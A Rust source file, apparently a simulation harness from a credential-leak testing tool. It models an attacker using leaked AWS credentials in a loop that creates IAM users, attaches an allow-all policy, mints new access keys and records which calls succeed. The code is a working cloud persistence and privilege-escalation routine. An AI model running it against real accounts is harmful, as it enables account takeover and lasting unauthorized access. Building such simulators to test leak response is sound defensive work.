//! A thief who never rests: changes something every 200 ms and tries all that was ever obtained.

use crate::account::{Account, Credential};
use crate::leak::Leak;
use jiff::Timestamp;
use keyleak::ports::clock::Clock;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio_util::sync::CancellationToken;
use tokio_util::task::TaskTracker;

/// How often the thief changes something.
const MOVE_EVERY: Duration = Duration::from_millis(200);
/// What a new user of the thief's may do.
const ALLOW_ALL: &str = r#"{"Version":"2012-10-17","Statement":[
{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;

/// The thief at work; dropping it ends the work.
#[derive(Debug)]
pub(crate) struct Thief {
    loot: Arc<Loot>,
    stop: CancellationToken,
    tasks: TaskTracker,
}

#[derive(Debug)]
struct Loot {
    account: Account,
    user: String,
    held: Mutex<Vec<Credential>>,
    /// When, and which call with which key.
    allowed: Mutex<Vec<(Timestamp, String)>>,
}

impl Thief {
    /// Goes to work with what a leak yielded.
    pub(crate) fn at_work(leak: &Leak, user: &str) -> Self {
        let held = [&leak.key, &leak.session, &leak.federated, &leak.backdoor];
        let loot = Arc::new(Loot {
            account: leak.thief.clone(),
            user: user.to_owned(),
            held: Mutex::new(held.into_iter().cloned().collect()),
            allowed: Mutex::default(),
        });
        let (stop, tasks) = (CancellationToken::new(), TaskTracker::new());
        let (working, stopped) = (Arc::clone(&loot), stop.clone());
        tasks.spawn(async move {
            stopped.run_until_cancelled(working.work()).await;
        });
        Self { loot, stop, tasks }
    }

    /// How many credentials the thief has obtained so far.
    pub(crate) fn credentials(&self) -> usize {
        self.loot.held.lock().expect("nobody panicked").len()
    }

    /// Every call that was allowed at or after a time, in words.
    pub(crate) fn allowed_since(&self, since: Timestamp) -> Vec<String> {
        let allowed = self.loot.allowed.lock().expect("nobody panicked");
        let since = allowed.iter().filter(|(at, _)| *at >= since);
        since.map(|(at, call)| format!("{at} {call}")).collect()
    }

    /// Tries every credential once more, now.
    pub(crate) async fn try_all(&self) -> Vec<String> {
        let held = self.loot.held.lock().expect("nobody panicked").clone();
        let mut working = Vec::new();
        for credential in held {
            let clients = self.loot.account.as_holder_of(&credential);
            if clients.list_buckets().await.is_ok() {
                working.push(credential.id);
            }
        }
        working
    }

    /// Lays hands off the account.
    pub(crate) async fn rest(&self) {
        self.stop.cancel();
        self.tasks.close();
        self.tasks.wait().await;
    }
}

impl Drop for Thief {
    fn drop(&mut self) {
        self.stop.cancel();
    }
}

impl Loot {
    async fn work(&self) {
        for turn in 0_u32.. {
            let held = self.held.lock().expect("nobody panicked").clone();
            // The newest credentials first: they are the least likely to be known yet.
            for credential in held.iter().rev() {
                if self.move_once(credential, turn).await {
                    break;
                }
            }
            tokio::time::sleep(MOVE_EVERY).await;
        }
    }

    /// Changes something with this credential; whether anything was allowed.
    async fn move_once(&self, credential: &Credential, turn: u32) -> bool {
        let clients = self.account.as_holder_of(credential);
        let iam = &clients.iam;
        let made = match turn % 4 {
            0 => self.new_user(&clients, &format!("svc-{turn}")).await,
            1 => {
                let policy = iam.put_user_policy().user_name(&self.user).policy_name("extra");
                policy.policy_document(ALLOW_ALL).send().await.map(|_| None).map_err(drop)
            }
            2 => {
                let made = iam.create_access_key().user_name(&self.user).send().await;
                made.map(|made| made.access_key.map(|key| key_of(&key))).map_err(drop)
            }
            _ => clients.list_buckets().await.map(|()| None).map_err(drop),
        };
        let Ok(minted) = made else { return false };
        let call = ["a new user", "a policy edit", "a new key", "a read"][turn as usize % 4];
        let seen = (Clock::real().now(), format!("{call} with {}", credential.id));
        self.allowed.lock().expect("nobody panicked").push(seen);
        self.held.lock().expect("nobody panicked").extend(minted);
        true
    }

    async fn new_user(
        &self,
        clients: &crate::account::Clients,
        name: &str,
    ) -> Result<Option<Credential>, ()> {
        let iam = &clients.iam;
        iam.create_user().user_name(name).send().await.map_err(drop)?;
        let policy = iam.put_user_policy().user_name(name).policy_name("all");
        policy.policy_document(ALLOW_ALL).send().await.map_err(drop)?;
        let made = iam.create_access_key().user_name(name).send().await.map_err(drop)?;
        Ok(made.access_key.map(|key| key_of(&key)))
    }
}

fn key_of(key: &aws_sdk_iam::types::AccessKey) -> Credential {
    Credential::new(key.access_key_id(), key.secret_access_key(), None)
}
